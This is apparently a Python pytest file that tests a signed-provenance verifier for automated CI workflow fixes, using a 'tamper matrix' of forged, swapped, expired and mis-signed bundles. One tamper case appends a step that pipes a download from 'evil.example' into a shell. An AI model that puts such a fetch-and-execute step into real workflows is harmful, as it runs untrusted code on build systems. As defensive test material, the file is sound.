"""The tamper matrix: each way of cheating is rejected with the check and message that name it.

Every case builds real bundles on a real git repository, applies the patch with ``git apply`` on
a branch, commits it with the attestation (as the propose job does), tampers, and verifies.
Key-signed cases run everywhere; keyless cases go through the loopback Sigstore
(``tests/minisigstore.py``) with the real sigstore signing and verification code.
"""

from __future__ import annotations

import base64
import json
import os
from collections.abc import Callable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path

import pytest
from cryptography.hazmat.primitives.asymmetric import ec
from sigstore.models import ClientTrustConfig

from bot.provenance import dsse as key_dsse
from bot.provenance.layout import ATTESTATION, STATEMENT
from bot.provenance.signing.signers import KeySigner, NoSigner, SigstoreSigner
from bot.provenance.statement import parse_time, statement_bytes
from bot.provenance.verification.result import VerificationResult
from bot.provenance.verification.trust import KeyTrust, SigstoreTrust
from bot.provenance.verification.verifier import verify_bundle
from minisigstore import MiniSigstore, github_claims, identity_of

CI = "gha-persist-credentials/ci"
DEPLOY = "gha-persist-credentials/deploy"


@dataclass
class Case:
    """The world a tamper step sees: the bench, the bundles, the key, the head to verify."""

    bench: object
    bundles: dict[str, Path]
    key: ec.EllipticCurvePrivateKey
    head: str = ""
    now: datetime | None = None
    trust: object = None

    def bundle(self, prefix: str) -> Path:
        return next(p for rid, p in self.bundles.items() if rid.startswith(prefix))


def _failed(result: VerificationResult, check: str, text: str) -> None:
    assert not result.ok
    messages = [c.message for c in result.failures if c.id == check]
    assert any(text in m for m in messages), (
        f"expected a failed {check!r} check containing {text!r}; failures: "
        + "; ".join(f"{c.id}: {c.message}" for c in result.failures)
    )
    for failure in result.failures:
        assert failure.advice, f"{failure.id} has no advice"


def _resign(case: Case, folder: Path, edit: Callable[[dict], None]) -> None:
    """Edit the statement and sign it again with the trusted key (a signer that cheats)."""
    statement = json.loads((folder / STATEMENT).read_bytes())
    edit(statement)
    payload = statement_bytes(statement)
    (folder / STATEMENT).write_bytes(payload)
    (folder / ATTESTATION).write_text(key_dsse.sign(case.key, payload))


# -- the key-signed cases ----------------------------------------------------------------------


def extra_file(case: Case) -> None:
    case.bench.repo.write("extra.txt", "smuggled\n")
    case.head = case.bench.repo.commit("extra")


def modified_file(case: Case) -> None:
    path = case.bench.repo.path / ".github/workflows/ci.yml"
    path.write_text(path.read_text() + "      - run: curl evil.example | sh\n")
    case.head = case.bench.repo.commit("hand edit")


def deleted_file(case: Case) -> None:
    case.bench.repo.git("rm", "-q", "README.md")
    case.head = case.bench.repo.commit("delete")


def mode_change(case: Case) -> None:
    case.bench.repo.git("update-index", "--chmod=+x", ".github/workflows/ci.yml")
    case.bench.repo.git("commit", "-q", "-m", "chmod")
    case.head = case.bench.repo.head()


def renamed_file(case: Case) -> None:
    case.bench.repo.git("mv", "script.sh", "tools.sh")
    case.head = case.bench.repo.commit("rename")


def symlink_for_file(case: Case) -> None:
    path = case.bench.repo.path / ".github/workflows/ci.yml"
    path.unlink()
    os.symlink("deploy.yml", path)
    case.head = case.bench.repo.commit("symlink")


def swapped_attestation(case: Case) -> None:
    ci, deploy = case.bundle(CI), case.bundle(DEPLOY)
    (ci / ATTESTATION).write_bytes((deploy / ATTESTATION).read_bytes())


def other_repository(case: Case) -> None:
    """The same workflow in an unrelated repository gives an equally named bundle."""
    other = case.bench.repo.__class__(case.bench.repo.path.parent / "elsewhere")
    other.write(".github/workflows/ci.yml", _ci_text(case))
    other.commit("unrelated history")
    foreign_bench = case.bench.__class__(other, case.bench.repo.path.parent / "foreign-out")
    foreign = foreign_bench.bundle(KeySigner(case.key))
    source = foreign[next(rid for rid in foreign if rid.startswith(CI))]
    target = case.bundle(CI)
    assert source.name == target.name
    for name in (STATEMENT, ATTESTATION, "plan.json", "patch.diff"):
        (target / name).write_bytes((source / name).read_bytes())


def _ci_text(case: Case) -> str:
    return case.bench.repo.git("show", "main:.github/workflows/ci.yml") + "\n"


def other_base(case: Case) -> None:
    case.head = case.bench.apply(case.bundle(CI), on="main~1")


def expired(case: Case) -> None:
    case.now = datetime.now(UTC) + timedelta(days=31)


def truncated(case: Case) -> None:
    path = case.bundle(CI) / ATTESTATION
    data = path.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def unsigned(case: Case) -> None:
    (case.bundle(CI) / ATTESTATION).unlink()


def unknown_predicate(case: Case) -> None:
    def edit(statement: dict) -> None:
        statement["predicateType"] = "https://example.test/remediation/v9"

    _resign(case, case.bundle(CI), edit)


def inconsistent_statement(case: Case) -> None:
    def edit(statement: dict) -> None:
        statement["subject"][0]["digest"]["sha256"] = "0" * 64

    _resign(case, case.bundle(CI), edit)


def wrong_key(case: Case) -> None:
    case.trust = KeyTrust(ec.generate_private_key(ec.SECP256R1()).public_key())


def tampered_payload(case: Case) -> None:
    path = case.bundle(CI) / ATTESTATION
    bundle = json.loads(path.read_bytes())
    payload = base64.b64decode(bundle["dsseEnvelope"]["payload"])
    payload = payload.replace(b'"op": "modify"', b'"op": "add"   ')
    bundle["dsseEnvelope"]["payload"] = base64.b64encode(payload).decode()
    path.write_text(json.dumps(bundle))


def edited_statement_copy(case: Case) -> None:
    path = case.bundle(CI) / STATEMENT
    path.write_bytes(path.read_bytes().replace(b'"detector"', b'"human-override"'))


def created_in_the_future(case: Case) -> None:
    """A signer whose clock runs a day ahead: validity within bounds, but not yet created."""

    def edit(statement: dict) -> None:
        created = datetime.now(UTC) + timedelta(days=1)
        predicate = statement["predicate"]
        predicate["createdOn"] = created.strftime("%Y-%m-%dT%H:%M:%SZ")
        predicate["expiresOn"] = (created + timedelta(days=7)).strftime("%Y-%m-%dT%H:%M:%SZ")

    _resign(case, case.bundle(CI), edit)


def committed_attestation_not_the_verified_one(case: Case) -> None:
    """The bundle is signed again (same statement, new signature bytes) after its attestation
    was committed: the committed file is a valid attestation, but not the one verified."""
    _resign(case, case.bundle(CI), lambda statement: None)


def at_the_expiry_instant(case: Case) -> None:
    """Verified at the very second the statement expires (no grace period)."""
    statement = json.loads((case.bundle(CI) / STATEMENT).read_bytes())
    case.now = parse_time(statement["predicate"]["expiresOn"])


def plan_of_another_fingerprint(case: Case) -> None:
    path = case.bundle(CI) / "plan.json"
    plan = json.loads(path.read_bytes())
    plan["remediation"]["fingerprint"] = "0" * len(plan["remediation"]["fingerprint"])
    path.write_text(json.dumps(plan))


def signed_as_another_payload_type(case: Case) -> None:
    """The trusted key signed the statement, but as a plain JSON document, not in-toto."""
    payload = (case.bundle(CI) / STATEMENT).read_bytes()
    signed = key_dsse.sign(case.key, payload, payload_type="application/json")
    (case.bundle(CI) / ATTESTATION).write_text(signed)


def attestation_elsewhere(case: Case) -> None:
    case.bench.repo.write(".mendbot/attestations/other.sigstore.json", "{}\n")
    case.head = case.bench.repo.commit("second attestation")


KEY_CASES = [
    ("extra file", extra_file, "change-set", "extra change: head adds extra.txt"),
    (
        "modified file",
        modified_file,
        "change-set",
        ".github/workflows/ci.yml: post-image content differs",
    ),
    ("deleted file", deleted_file, "change-set", "extra change: head deletes README.md"),
    (
        "mode change",
        mode_change,
        "change-set",
        "post-image mode 100755 at head, attested 100644",
    ),
    ("renamed file (delete)", renamed_file, "change-set", "head deletes script.sh"),
    ("renamed file (add)", renamed_file, "change-set", "head adds tools.sh"),
    (
        "symlink swapped for a file",
        symlink_for_file,
        "change-set",
        "is a symlink at head (mode 120000), attested as a regular file",
    ),
    (
        "attestation swapped from another remediation",
        swapped_attestation,
        "bundle.folder",
        "does not belong to remediation gha-persist-credentials/deploy",
    ),
    (
        "attestation swapped from another remediation (change set)",
        swapped_attestation,
        "change-set",
        "missing change: the attestation modifies .github/workflows/deploy.yml",
    ),
    ("bundle from another repository", other_repository, "base-commit", "is not in"),
    (
        "another base commit",
        other_base,
        "base-commit",
        "does not descend from the attested base commit",
    ),
    ("expired bundle", expired, "expiry", "the bundle expired on"),
    ("bundle at its expiry instant", at_the_expiry_instant, "expiry", "the bundle expired on"),
    (
        "plan.json of another fingerprint",
        plan_of_another_fingerprint,
        "bundle.plan",
        "names another remediation or fingerprint",
    ),
    (
        "signed as another payload type",
        signed_as_another_payload_type,
        "signature",
        "the DSSE payload type is 'application/json'",
    ),
    (
        "bundle created in the future",
        created_in_the_future,
        "expiry",
        "the bundle claims to be created in the future",
    ),
    (
        "committed attestation is not the verified one",
        committed_attestation_not_the_verified_one,
        "attestation-path",
        "is not the one verified",
    ),
    ("truncated bundle", truncated, "bundle", "invalid or truncated JSON"),
    (
        "unsigned bundle where a signature is required",
        unsigned,
        "signature",
        "the bundle is unsigned",
    ),
    (
        "unknown predicate type",
        unknown_predicate,
        "predicate-type",
        "unknown predicate type 'https://example.test/remediation/v9'",
    ),
    (
        "statement inconsistent with its subjects",
        inconsistent_statement,
        "statement",
        "the file subjects are not exactly the post-images",
    ),
    ("another key", wrong_key, "signature", "signed by another key"),
    ("payload edited after signing", tampered_payload, "signature", "DSSE: invalid signature"),
    (
        "statement.json edited",
        edited_statement_copy,
        "bundle.statement",
        "statement.json differs from the signed payload",
    ),
    (
        "a second file under .mendbot/attestations",
        attestation_elsewhere,
        "attestation-path",
        "only adding .mendbot/attestations/gha-persist-credentials--ci-",
    ),
]


@pytest.fixture
def key_case(bench, signing_key) -> Case:
    bundles = bench.bundle(KeySigner(signing_key))
    case = Case(bench=bench, bundles=bundles, key=signing_key)
    case.trust = KeyTrust(signing_key.public_key())
    case.head = bench.apply(case.bundle(CI))
    return case


def test_the_untampered_bundle_verifies(key_case: Case) -> None:
    result = verify_bundle(
        key_case.bundle(CI), repo=key_case.bench.repo.path, head=key_case.head, trust=key_case.trust
    )
    assert result.ok, [f"{c.id}: {c.message}" for c in result.failures]
    assert result.source == "detector"


@pytest.mark.parametrize(
    ("tamper", "check", "message"), [c[1:] for c in KEY_CASES], ids=[c[0] for c in KEY_CASES]
)
def test_key_signed_tampering_is_rejected(
    key_case: Case, tamper: Callable[[Case], None], check: str, message: str
) -> None:
    tamper(key_case)
    result = verify_bundle(
        key_case.bundle(CI),
        repo=key_case.bench.repo.path,
        head=key_case.head,
        trust=key_case.trust,
        now=key_case.now,
    )
    _failed(result, check, message)


# -- keyless cases (real sigstore code against the loopback Sigstore) ------------------------


@pytest.fixture
def keyless(bench, mini_sigstore: MiniSigstore, monkeypatch, signing_key) -> Case:
    """Sign the bundles keyless in a GitHub-Actions-like environment; apply the ci one."""
    base = bench.repo.head()
    mini_sigstore.claims = github_claims(sha=base)
    env = {
        **mini_sigstore.actions_environment(),
        "GITHUB_SERVER_URL": "https://github.com",
        "GITHUB_REPOSITORY": "acme/infra",
        "GITHUB_REPOSITORY_ID": "1001",
        "GITHUB_REPOSITORY_OWNER_ID": "2002",
        "GITHUB_REF": "refs/heads/main",
        "GITHUB_SHA": base,
        "GITHUB_RUN_ID": "42",
        "GITHUB_RUN_ATTEMPT": "1",
        "GITHUB_EVENT_NAME": "schedule",
        "GITHUB_WORKFLOW_REF": "acme/infra/.github/workflows/mendbot.yml@refs/heads/main",
    }
    for name, value in env.items():
        monkeypatch.setenv(name, value)
    config = ClientTrustConfig.from_json(mini_sigstore.client_trust_config())
    bundles = bench.bundle(SigstoreSigner(config), env=env)
    case = Case(bench=bench, bundles=bundles, key=signing_key)
    case.trust = SigstoreTrust(
        identity=identity_of(mini_sigstore.claims),
        issuer=mini_sigstore.claims["iss"],
        repository_id="1001",
        trusted_root=config.trusted_root,
    )
    case.head = bench.apply(case.bundle(CI))
    return case


def _verify(case: Case, **changes) -> VerificationResult:
    trust = case.trust
    if changes:
        trust = SigstoreTrust(
            **{
                "identity": trust.identity,
                "issuer": trust.issuer,
                "repository_id": trust.repository_id,
                "trusted_root": trust.trusted_root,
                **changes,
            }
        )
    return verify_bundle(
        case.bundle(CI), repo=case.bench.repo.path, head=case.head, trust=trust, now=case.now
    )


def test_keyless_bundle_verifies_with_every_binding(keyless: Case) -> None:
    result = _verify(keyless)
    assert result.ok, [f"{c.id}: {c.message}" for c in result.failures]
    passed = {c.id for c in result.checks if c.status.value == "passed"}
    assert {
        "signer.identity",
        "signer.issuer",
        "signer.workflow",
        "signer.repository",
        "signer.repository-id",
        "signer.ref",
        "signer.runner",
        "signer.trigger",
        "binding.base-commit",
        "binding.invocation",
        "binding.repository",
        "binding.repository-id",
        "binding.ref",
        "binding.trigger",
        "binding.generator",
        "change-set",
        "attestation-path",
    } <= passed


def test_keyless_wrong_signer_workflow(keyless: Case) -> None:
    other = "https://github.com/acme/infra/.github/workflows/other.yml@refs/heads/main"
    result = _verify(keyless, identity=other)
    _failed(result, "signer.identity", "Certificate's SANs do not match")
    _failed(result, "signer.workflow", "OIDCBuildSignerURI does not match")
    assert result.statement is None  # nothing of the payload was trusted


def test_keyless_wrong_issuer(keyless: Case) -> None:
    result = _verify(keyless, issuer="https://token.actions.githubusercontent.com/evil-corp")
    _failed(result, "signer.issuer", "OIDCIssuerV2 does not match")


def test_keyless_bundle_from_another_repository(keyless: Case) -> None:
    result = _verify(
        keyless,
        identity="https://github.com/acme/other/.github/workflows/mendbot.yml@refs/heads/main",
        repository_id="3003",
    )
    _failed(result, "signer.repository", "OIDCSourceRepositoryURI does not match")
    _failed(result, "signer.repository-id", "OIDCSourceRepositoryIdentifier does not match")


def test_keyless_disallowed_trigger(keyless: Case) -> None:
    result = _verify(keyless, triggers=("workflow_dispatch",))
    _failed(result, "signer.trigger", "OIDCBuildTrigger is schedule; allowed: workflow_dispatch")


def test_keyless_bundle_where_a_key_is_required(keyless: Case) -> None:
    trust = KeyTrust(keyless.key.public_key())
    result = verify_bundle(
        keyless.bundle(CI), repo=keyless.bench.repo.path, head=keyless.head, trust=trust
    )
    _failed(result, "signature", "signed keyless with Sigstore, but a public key was given")


def test_keyless_key_bundle_where_sigstore_is_required(key_case: Case, mini_sigstore) -> None:
    config = ClientTrustConfig.from_json(mini_sigstore.client_trust_config())
    trust = SigstoreTrust(identity=identity_of(github_claims()), trusted_root=config.trusted_root)
    result = verify_bundle(
        key_case.bundle(CI), repo=key_case.bench.repo.path, head=key_case.head, trust=trust
    )
    _failed(result, "signature", "signed with a key, but a Sigstore identity is required")


def test_keyless_statement_about_another_base_commit(
    bench, mini_sigstore: MiniSigstore, monkeypatch
) -> None:
    """The workflow ran on commit X (certificate) but attests a change on commit Y."""
    base = bench.repo.head()
    parent = bench.repo.git("rev-parse", "HEAD~1")
    mini_sigstore.claims = github_claims(sha=parent)
    for name, value in mini_sigstore.actions_environment().items():
        monkeypatch.setenv(name, value)
    env = {
        "GITHUB_ACTIONS": "true",
        "GITHUB_REPOSITORY": "acme/infra",
        "GITHUB_REPOSITORY_ID": "1001",
        "GITHUB_RUN_ID": "42",
        "GITHUB_RUN_ATTEMPT": "1",
        "GITHUB_EVENT_NAME": "schedule",
        "GITHUB_REF": "refs/heads/main",
    }
    config = ClientTrustConfig.from_json(mini_sigstore.client_trust_config())
    bundles = bench.bundle(SigstoreSigner(config), env=env)
    folder = next(p for rid, p in bundles.items() if rid.startswith(CI))
    head = bench.apply(folder)
    trust = SigstoreTrust(
        identity=identity_of(mini_sigstore.claims), trusted_root=config.trusted_root
    )
    result = verify_bundle(folder, repo=bench.repo.path, head=head, trust=trust)
    _failed(result, "binding.base-commit", "OIDCSourceRepositoryDigest does not match")
    assert base != parent


def test_keyless_old_signature_is_too_old_even_if_the_statement_says_otherwise(
    keyless: Case,
) -> None:
    keyless.now = datetime.now(UTC) + timedelta(days=29, hours=23)
    assert _verify(keyless).ok
    result = _verify(keyless, max_age=timedelta(days=7))
    _failed(result, "expiry", "more than 7 days ago")


def test_unsigned_bundle_is_accepted_only_as_human_override(bench) -> None:
    from bot.provenance.verification.trust import UnsafeAcceptUnsigned

    bundles = bench.bundle(NoSigner())
    folder = next(p for rid, p in bundles.items() if rid.startswith(CI))
    assert not (folder / ATTESTATION).exists()
    head = bench.apply(folder)
    trusted = KeyTrust(ec.generate_private_key(ec.SECP256R1()).public_key())
    refused = verify_bundle(folder, repo=bench.repo.path, head=head, trust=trusted)
    _failed(refused, "signature", "the bundle is unsigned")
    accepted = verify_bundle(folder, repo=bench.repo.path, head=head, trust=UnsafeAcceptUnsigned())
    assert accepted.ok
    assert accepted.source == "human-override"


def test_an_inconsistent_statement_is_never_handed_on(key_case: Case) -> None:
    """A signed but self-contradicting statement fails, and nothing of it is used: no
    statement in the result, and the later checks are not evaluated."""
    inconsistent_statement(key_case)
    result = verify_bundle(
        key_case.bundle(CI),
        repo=key_case.bench.repo.path,
        head=key_case.head,
        trust=key_case.trust,
    )
    _failed(result, "statement", "the file subjects are not exactly the post-images")
    assert result.statement is None
    evaluated = {c.id for c in result.checks}
    assert not evaluated & {"expiry", "change-set", "repository", "bundle.plan"}, evaluated
